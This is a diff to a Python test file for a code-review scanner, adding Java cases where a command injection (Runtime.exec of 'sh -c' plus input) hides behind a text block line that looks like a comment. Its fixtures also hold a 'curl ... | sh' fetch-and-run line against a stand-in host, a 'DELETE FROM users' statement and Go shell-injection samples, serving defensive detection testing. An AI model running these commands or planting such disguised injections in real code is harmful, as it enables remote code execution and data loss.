@@ -76,6 +76,8 @@ def test_a_nul_byte_does_not_make_the_file_unreadable_whole(
 CURL = "curl https://x.example/i.sh | sh"
 EVAL = ("js.eval", "warning")
 GO_RUN = 'package a\nimport "os/exec"\nfunc f(x string) {\n%s\n}\n'
+JAVA = ('class A {\n  void f(String x) throws Exception {\n    String s = """\n%s\n  }\n}\n')
+JAVA_RUN = ("java.command-injection", "error")
 
 
 @pytest.mark.parametrize(("path", "code", "expected"), [
@@ -91,6 +93,11 @@ GO_RUN = 'package a\nimport "os/exec"\nfunc f(x string) {\n%s\n}\n'
     ("db/a.sql", "SELECT '\n-- '; DELETE FROM users;\n", [("sql.destructive", "warning")]),
     ("app/a.go", GO_RUN % '\ts := `\n//`; exec.Command("sh", "-c", x).Run(); _ = s',
      [("go.command-injection", "warning")]),
+    # tree-sitter-java reads a text block's line that starts with `//` as a comment (and
+    # the file as not parsing): the regular-expression lexer has it right.
+    ("app/A.java", JAVA % '// a"""; Runtime.getRuntime().exec("sh -c " + x);', [JAVA_RUN]),
+    ("app/A.java", JAVA % '// reviewbot: ignore"""; Runtime.getRuntime().exec("sh -c " + x);',
+     [JAVA_RUN]),
     # Near misses: comments that name the danger stay comments.
     ("bin/a.sh", f"# {CURL}\n", []),
     ("bin/a.sh", f"cat <<EOF\nx\nEOF\n# $({CURL})\n", []),
@@ -99,6 +106,7 @@ GO_RUN = 'package a\nimport "os/exec"\nfunc f(x string) {\n%s\n}\n'
      []),
     ("db/a.sql", "-- DELETE FROM users;\n/* DELETE FROM users; */\n", []),
     ("app/a.go", GO_RUN % '\t// exec.Command("sh", "-c", x).Run()', []),
+    ("app/A.java", JAVA % 'a""";\n    // Runtime.getRuntime().exec("sh -c " + x);', []),
     # A `#` line of a YAML block scalar is the comment of the script it holds.
     (".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n"
                                 f"    steps:\n      - run: |\n          # {CURL}\n", []),
@@ -110,5 +118,14 @@ def test_a_line_that_starts_like_a_comment_inside_a_string_is_code(
     rest of it is code (a `${...}` or `$(...)` in it runs), and it is read."""
     result = review(path, code)
     rules = {rule for rule, _ in expected} | {PIPE[0], EVAL[0], "sql.destructive",
-                                               "go.command-injection"}
+                                               "go.command-injection", JAVA_RUN[0]}
     assert [(f.rule_id, f.severity) for f in result.findings if f.rule_id in rules] == expected
+
+
+def test_a_real_comment_in_a_file_its_grammar_fails_on_still_suppresses() -> None:
+    """Where tree-sitter fails on a file, a comment both lexers read alike still counts."""
+    code = JAVA % ('a""";\n    Runtime.getRuntime().exec("sh -c " + x);  '
+                   '// reviewbot: ignore[java.command-injection]\n    int = ;')
+    result = review("app/A.java", code)
+    assert [f.rule_id for f in result.findings if f.rule_id == JAVA_RUN[0]] == []
+    assert [(q.kind, q.decided_by) for q in result.quieted] == [("suppression", "change")]
